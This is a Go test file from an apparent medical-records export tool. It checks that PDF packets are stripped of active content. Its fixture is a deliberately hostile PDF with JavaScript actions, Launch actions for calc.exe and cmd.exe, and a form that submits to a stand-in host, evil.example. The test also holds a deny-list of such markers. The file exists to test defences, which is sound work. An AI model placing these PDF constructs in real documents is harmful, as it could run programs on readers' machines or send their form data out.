package export_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"image"
	"image/color"
	"image/png"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"secondopinion/export"
	"secondopinion/records"
)

// hostilePDF has one of everything a mail filter refuses: document
// JavaScript, a script open action, a page open action, a Launch link, a
// link to another PDF, an outline item whose chain launches a program, a
// SubmitForm button, a text field with a keystroke script, an XFA form,
// a file in the attachment list and one pinned to the page; and a plain
// web link that must survive.
func hostilePDF() []byte {
	return export.RawPDF(
		"/Names 7 0 R /OpenAction 10 0 R /AcroForm 16 0 R /AA << /WC << /S /JavaScript /JS (app.alert\\(4\\);) >> >> /Outlines 21 0 R",
		"/Annots [11 0 R 12 0 R 13 0 R 17 0 R 18 0 R 23 0 R] /AA << /O << /S /JavaScript /JS (app.alert\\(3\\);) >> >>",
		/* 6 */ "<< /Type /Action /S /JavaScript /JS (app.alert\\('document'\\);) >>",
		/* 7 */ "<< /JavaScript << /Names [(init) 6 0 R] >> /EmbeddedFiles << /Names [(results.xlsx) 8 0 R] >> >>",
		/* 8 */ "<< /Type /Filespec /F (results.xlsx) /UF (results.xlsx) /Desc (Lab results) /EF << /F 9 0 R >> >>",
		/* 9 */ "stream:<< /Type /EmbeddedFile /Params << /Size 11 >> >>|hello world",
		/* 10 */ "<< /S /JavaScript /JS (app.alert\\('open'\\);) >>",
		/* 11 */ "<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] /A << /S /Launch /F (calc.exe) >> >>",
		/* 12 */ "<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /Border [0 0 0] /A << /S /URI /URI (https://example.org/results) >> >>",
		/* 13 */ "<< /Type /Annot /Subtype /FileAttachment /Rect [400 700 420 720] /FS 14 0 R /Contents (note) >>",
		/* 14 */ "<< /Type /Filespec /F (note.txt) /EF << /F 15 0 R >> >>",
		/* 15 */ "stream:secret note",
		/* 16 */ "<< /Fields [17 0 R 18 0 R] /XFA 19 0 R /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 5 0 R >> >> >>",
		/* 17 */ "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Jane Doe) /Rect [72 500 300 520] /P 3 0 R /AP << /N 20 0 R >> /AA << /K << /S /JavaScript /JS (1;) >> >> >>",
		/* 18 */ "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 450 200 470] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Next << /S /JavaScript /JS (2;) >> >> >>",
		/* 19 */ "stream:<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"></xdp:xdp>",
		/* 20 */ "stream:<< /Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /Helv 5 0 R >> >> >>|/Tx BMC BT /Helv 12 Tf 2 5 Td (Jane Doe) Tj ET EMC",
		/* 21 */ "<< /Type /Outlines /First 22 0 R /Last 22 0 R /Count 1 >>",
		/* 22 */ "<< /Title (Run) /Parent 21 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >> >> >>",
		/* 23 */ "<< /Type /Annot /Subtype /Link /Rect [72 400 300 420] /Border [0 0 0] /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
	)
}

// hostileRemoved is what cleaning must report for hostilePDF.
var hostileRemoved = export.Removed{Scripts: 6, ActionsRemoved: 4, Attachments: []string{"results.xlsx", "note.txt"}, XFA: true, Fields: 2}

func writeTemp(t *testing.T, name string, data []byte) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestWritePacketCleansActiveContent(t *testing.T) {
	needTools(t, "qpdf", "pdfinfo", "pdfdetach", "pdftotext")
	ctx := context.Background()
	s, _ := newStore(t)
	p := records.Person{FullName: "Hostile Files"}
	if err := s.SavePerson(ctx, &p); err != nil {
		t.Fatal(err)
	}
	hostile := writeTemp(t, "hostile.pdf", hostilePDF())
	img := image.NewGray(image.Rect(0, 0, 40, 30))
	for i := range img.Pix {
		img.Pix[i] = color.Gray{Y: uint8(i)}.Y
	}
	var pngBuf bytes.Buffer
	png.Encode(&pngBuf, img)
	photo := writeTemp(t, "photo.png", pngBuf.Bytes())

	first := addDoc(t, s, p.ID, records.Document{Title: "Hostile letter", Date: records.MustDate("2026-01-02")}, hostile)
	second := addDoc(t, s, p.ID, records.Document{Title: "Photo then hostile", Date: records.MustDate("2026-01-03")}, photo, hostile)

	out := filepath.Join(t.TempDir(), "hostile-packet.pdf")
	res, err := export.WritePacket(ctx, s, out, export.Options{PersonID: p.ID, Now: fixedNow})
	if err != nil {
		t.Fatalf("WritePacket = %v", err)
	}
	keep(t, out)
	qpdfCheck(t, out)

	// What was removed is reported per document, and said on its divider.
	if len(res.Cleaned) != 2 {
		t.Fatalf("Result.Cleaned = %+v, want both documents", res.Cleaned)
	}
	for i, c := range res.Cleaned {
		if want := []string{first.ID, second.ID}[i]; c.DocumentID != want {
			t.Errorf("Cleaned[%d].DocumentID = %s, want %s", i, c.DocumentID, want)
		}
		r := c.Removed
		if r.Scripts != hostileRemoved.Scripts || r.ActionsRemoved != hostileRemoved.ActionsRemoved || !r.XFA ||
			r.Fields != hostileRemoved.Fields || !slices.Equal(r.Attachments, hostileRemoved.Attachments) {
			t.Errorf("Cleaned[%d].Removed = %+v, want %+v", i, r, hostileRemoved)
		}
	}
	text := strings.Join(strings.Fields(pdfText(t, out, 0, 0)), " ")
	for _, want := range []string{
		"2 attached files were not included: results.xlsx, note.txt. They are kept in the patient's records",
		"Scripts and automatic actions were removed.",
		"Its XFA form layer was removed",
	} {
		if n := strings.Count(text, want); n != 2 {
			t.Errorf("packet says %q %d times, want on both dividers", want, n)
		}
	}
	// Photo first: the document still gets a divider to say it.
	pages := strings.Split(pdfText(t, out, 0, 0), "\f")
	div := slices.IndexFunc(pages, func(pg string) bool { return strings.Contains(pg, "Document 2 of 2") })
	if div < 0 || !strings.Contains(pages[div], "attached files were not included") {
		t.Errorf("document 2 (photo, then a PDF) has no divider saying what was left out")
	}

	// The tools a hospital's filters use find nothing.
	noScripts(t, out)
	if info := pdfInfo(t, out); info["Form"] != "AcroForm" {
		t.Errorf("pdfinfo Form = %s, want AcroForm (not XFA)", info["Form"])
	}
	if list, err := exec.Command("pdfdetach", "-list", out).CombinedOutput(); err != nil || !bytes.HasPrefix(list, []byte("0 embedded files")) {
		t.Errorf("pdfdetach -list = %s (%v), want 0 embedded files", list, err)
	}

	// Object by object: no active content anywhere; the catalog's own
	// open action goes to the cover; the web link is still there; the
	// form fields are read-only.
	objs := qpdfObjects(t, out)
	root := qpdfRoot(t, out)
	uri := false
	for id, v := range objs {
		js, _ := json.Marshal(v)
		s := string(js)
		for _, bad := range []string{`"/JS"`, `"/JavaScript"`, `"/Launch"`, `"/SubmitForm"`, `"/GoToR"`, `"/EmbeddedFiles"`, `"/FileAttachment"`,
			`"/EF"`, `"/XFA"`, `"/AA"`, "calc.exe", "cmd.exe", "evil.example"} {
			if strings.Contains(s, bad) {
				t.Errorf("object %s holds %s: %.300s", id, bad, s)
			}
		}
		if strings.Contains(s, `"/OpenAction"`) && id != root {
			t.Errorf("object %s (not the catalog %s) has /OpenAction: %.300s", id, root, s)
		}
		if strings.Contains(s, "u:https://example.org/results") {
			uri = true
		}
	}
	if !uri {
		t.Errorf("the plain web link https://example.org/results was lost")
	}
	if open := openAction(t, out); open != firstPageObject(t, out) {
		t.Errorf("OpenAction goes to %q, want the cover %q", open, firstPageObject(t, out))
	}
	for _, f := range qpdfFields(t, out) {
		if f.Flags&1 == 0 {
			t.Errorf("field %s has flags %d: not read-only", f.Name, f.Flags)
		}
	}

	// The left-out files can be listed and saved from the library.
	doc, err := s.Document(ctx, first.ID)
	if err != nil {
		t.Fatal(err)
	}
	f := doc.Files[0]
	list, err := export.Attachments(ctx, s, f)
	if err != nil {
		t.Fatalf("Attachments = %v", err)
	}
	want := []export.Attachment{{Name: "results.xlsx", Description: "Lab results", Size: 11}, {Name: "note.txt", Size: -1, Page: 1}}
	if !slices.Equal(list, want) {
		t.Errorf("Attachments = %+v, want %+v", list, want)
	}
	for name, want := range map[string]string{"results.xlsx": "hello world", "note.txt": "secret note"} {
		var buf bytes.Buffer
		if err := export.SaveAttachment(ctx, s, f, name, &buf); err != nil || buf.String() != want {
			t.Errorf("SaveAttachment(%s) = %q, %v; want %q", name, buf.String(), err, want)
		}
	}
	if err := export.SaveAttachment(ctx, s, f, "nothing.txt", &bytes.Buffer{}); !errors.Is(err, export.ErrNoAttachment) {
		t.Errorf("SaveAttachment(nothing.txt) = %v, want ErrNoAttachment", err)
	}
}

// TestWritePacketCorpusAttachment puts the corpus PDF with an embedded
// file and the government form with field scripts into a packet.
func TestWritePacketCorpusAttachment(t *testing.T) {
	needTools(t, "qpdf", "pdfinfo", "pdfdetach")
	corpus := corpusDir(t)
	ctx := context.Background()
	s, _ := newStore(t)
	p := records.Person{FullName: "Corpus Attachments"}
	if err := s.SavePerson(ctx, &p); err != nil {
		t.Fatal(err)
	}
	att := addDoc(t, s, p.ID, records.Document{Title: "With attachment"}, filepath.Join(corpus, "pdf/with-embedded-file.pdf"))
	addDoc(t, s, p.ID, records.Document{Title: "Tax form"}, filepath.Join(corpus, "pdf/irs-f1040v-2013-incremental-updates.pdf"))
	addDoc(t, s, p.ID, records.Document{Title: "Referral form"}, filepath.Join(corpus, "pdf/form-libreoffice.pdf"))
	out := filepath.Join(t.TempDir(), "forms-packet.pdf")
	res, err := export.WritePacket(ctx, s, out, export.Options{PersonID: p.ID, Now: fixedNow})
	if err != nil {
		t.Fatalf("WritePacket = %v", err)
	}
	keep(t, out)
	qpdfCheck(t, out)
	if list, _ := exec.Command("pdfdetach", "-list", out).CombinedOutput(); !bytes.HasPrefix(list, []byte("0 embedded files")) {
		t.Errorf("pdfdetach -list = %s, want 0 embedded files", list)
	}
	noScripts(t, out)
	var names []string
	for _, c := range res.Cleaned {
		names = append(names, c.Title)
	}
	if !slices.Equal(names, []string{"With attachment", "Tax form"}) {
		t.Errorf("Cleaned = %q, want the attachment and the tax form's scripts", names)
	}
	if n := len(qpdfFields(t, out)); n < 9+12 {
		t.Errorf("packet has %d form fields, want the forms' fields kept", n)
	}
	for _, f := range qpdfFields(t, out) {
		if f.Flags&1 == 0 {
			t.Errorf("field %s has flags %d: not read-only", f.Name, f.Flags)
		}
	}
	doc, err := s.Document(ctx, att.ID)
	if err != nil {
		t.Fatal(err)
	}
	list, err := export.Attachments(ctx, s, doc.Files[0])
	if err != nil || len(list) != 1 || list[0].Name != "image.png" {
		t.Fatalf("Attachments(with-embedded-file.pdf) = %+v, %v; want image.png", list, err)
	}
	var buf bytes.Buffer
	if err := export.SaveAttachment(ctx, s, doc.Files[0], "image.png", &buf); err != nil {
		t.Fatal(err)
	}
	if _, err := png.Decode(&buf); err != nil {
		t.Errorf("saved image.png does not decode: %v", err)
	}
}

// noScripts fails the test when poppler finds JavaScript in the PDF:
// pdfinfo -js prints every script it finds, and nothing when there is none.
func noScripts(t testing.TB, path string) {
	t.Helper()
	js, err := exec.Command("pdfinfo", "-js", path).CombinedOutput()
	if err != nil || len(bytes.TrimSpace(js)) > 0 {
		t.Errorf("pdfinfo -js = %v, finds JavaScript:\n%s", err, js)
	}
	if info := pdfInfo(t, path); info["JavaScript"] != "no" {
		t.Errorf("pdfinfo JavaScript = %q, want no", info["JavaScript"])
	}
}

// qpdfObjects is every object of a PDF as qpdf's JSON shows it, by id
// ("obj:12 0 R").
func qpdfObjects(t testing.TB, path string) map[string]any {
	t.Helper()
	var j struct {
		QPDF []json.RawMessage `json:"qpdf"`
	}
	if qpdfJSON(t, path, "qpdf", &j); len(j.QPDF) < 2 {
		t.Fatalf("qpdf --json %s: %d parts, want the header and the objects", path, len(j.QPDF))
	}
	var objs map[string]any
	if err := json.Unmarshal(j.QPDF[1], &objs); err != nil {
		t.Fatal(err)
	}
	return objs
}

// qpdfRoot is the catalog's id in qpdfObjects.
func qpdfRoot(t testing.TB, path string) string {
	t.Helper()
	trailer, err := exec.Command("qpdf", "--show-object=trailer", path).Output()
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`/Root (\d+ \d+ R)`).FindSubmatch(trailer)
	if m == nil {
		t.Fatalf("no /Root in %s", trailer)
	}
	return "obj:" + string(m[1])
}

type qpdfField struct {
	Name  string `json:"fullname"`
	Flags int    `json:"fieldflags"`
}

func qpdfFields(t testing.TB, path string) []qpdfField {
	t.Helper()
	var j struct {
		Acroform struct {
			Fields []qpdfField `json:"fields"`
		} `json:"acroform"`
	}
	qpdfJSON(t, path, "acroform", &j)
	return j.Acroform.Fields
}
